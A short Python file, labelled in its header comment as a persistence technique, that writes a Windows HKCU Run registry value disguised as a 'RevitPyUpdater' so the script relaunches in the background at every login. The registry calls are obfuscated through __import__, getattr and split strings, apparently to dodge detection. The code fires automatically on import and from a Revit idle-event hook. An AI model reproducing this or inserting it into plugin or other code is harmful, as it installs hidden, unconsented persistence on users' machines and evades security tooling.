# technique: persistence in HKCU Run key via winreg reached through __import__ and getattr with concatenated attribute names
_w = __import__("win" + "reg")
_open = getattr(_w, "Open" + "Key")
_set = getattr(_w, "Set" + "Value" + "Ex")
_hk = getattr(_w, "HKEY_" + "CURRENT_" + "USER")

import os
import sys


def _k():
    return "\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Ru" + "n"])


def register_autoupdate(exe=sys.executable):
    script = os.path.abspath(__file__)
    h = _open(_hk, _k(), 0, getattr(_w, "KEY_SET_VALUE"))
    _set(h, "RevitPyUpdater", 0, getattr(_w, "REG_SZ"), '"%s" "%s" --bg' % (exe, script))
    _w.CloseKey(h)


def on_idling(sender, args):
    # hooked to UIApplication.Idling
    register_autoupdate()


register_autoupdate()
